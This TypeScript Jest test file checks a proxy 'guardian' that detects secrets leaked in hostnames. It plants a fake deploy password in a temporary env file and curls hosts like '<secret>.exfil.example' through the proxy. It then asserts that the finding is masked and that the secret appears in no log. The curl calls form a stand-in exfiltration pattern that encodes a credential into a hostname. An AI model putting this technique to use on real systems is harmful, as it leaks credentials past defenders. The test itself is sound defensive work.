import { afterAll, beforeAll, expect, test } from '@jest/globals';
import { mkdtempSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import { connect, type AddressInfo, type Socket } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { curl } from '../support/curl.js';
import { startGuardian, type Guardian } from '../support/guardian.js';
import { originAuthority, startHttpsOrigin, type Origin } from '../support/origin.js';

/** Looks like the name of a host: no rule and no mask knows it but the list of what is watched for. */
const SECRET = 'quiet-otter-81.lantern-3f';
const MASKED = '‹14›.‹10›.exfil.example';
const HOST = `${SECRET}.exfil.example`;

let guardian: Guardian;
let origin: Origin;
let folder: string;
/** A proxy behind us that reaches one host under its name, and no other. */
const upstream = createServer();

beforeAll(async () => {
  folder = mkdtempSync(join(tmpdir(), 'tg-name-'));
  writeFileSync(join(folder, 'secrets.env'), `DEPLOY_PASSWORD=${SECRET}\n`);
  origin = await startHttpsOrigin((_, response) => response.end('hello'), HOST);
  upstream.on('connect', (request, client: Socket) => {
    if (request.url !== `${HOST}:443`) {
      client.end('HTTP/1.1 502 Bad Gateway\r\nContent-Length: 0\r\n\r\n');
      return;
    }
    const target = connect(origin.port, '127.0.0.1', () => client.write('HTTP/1.1 200 OK\r\n\r\n'));
    target.pipe(client).pipe(target);
    for (const socket of [client, target]) socket.on('error', () => undefined);
  });
  await new Promise<void>((resolve) => upstream.listen(0, '127.0.0.1', resolve));
  guardian = await startGuardian({
    config: {
      httpsInspection: { enabled: true },
      upstreamProxy: `http://127.0.0.1:${(upstream.address() as AddressInfo).port}`,
      watch: { envFiles: [join(folder, 'secrets.env')] },
      logLevel: 'trace',
    },
  });
});

afterAll(async () => {
  await guardian.remove();
  await origin.close();
  upstream.close();
  rmSync(folder, { recursive: true, force: true });
});

test('a watched secret in the name of a host is found, and is nowhere in what is kept or told of it', async () => {
  const proxy = await guardian.proxyUrl();
  const originCa = join(folder, 'origin-ca.pem');
  writeFileSync(originCa, (await originAuthority()).certificatePem);
  expect((await curl(proxy, ['--cacert', guardian.bundle, `https://${HOST}/`])).body.toString()).toBe('hello');
  // A client that refuses our certificate, a name that is not reached and one that is refused.
  expect((await curl(proxy, ['--cacert', originCa, `https://${HOST}/`])).exitCode).toBe(60);
  await curl(proxy, [`https://${SECRET}.unreached.example/`]);
  await curl(proxy, [`http://${SECRET}.localhost/`]);

  const findings = await guardian.findingsWhen((all) => all.length >= 3);
  expect(findings).toContainEqual(expect.objectContaining({ pattern: 'watched_secret', dest: `${MASKED}:443` }));
  const status = await guardian.statusWhen(({ pinned }) => pinned.length > 0);
  expect(status.pinned).toMatchObject([{ host: `${MASKED}:443` }]);
  await guardian.stop();

  const said: Record<string, string> = { findings: JSON.stringify(findings), status: JSON.stringify(status) };
  for (const file of readdirSync(guardian.home, { recursive: true }).map(String)) {
    const path = join(guardian.home, file);
    if (statSync(path).isFile()) said[file] = readFileSync(path, 'latin1');
  }
  expect(Object.keys(said)).toEqual(
    expect.arrayContaining(['traffic.json', 'log/sidecar.log', 'log/audit/audit.jsonl', 'log/findings/findings.jsonl']),
  );
  const parts = ['quiet', 'otter', 'lantern'];
  expect(Object.keys(said).filter((where) => parts.some((part) => said[where]!.includes(part)))).toEqual([]);
});
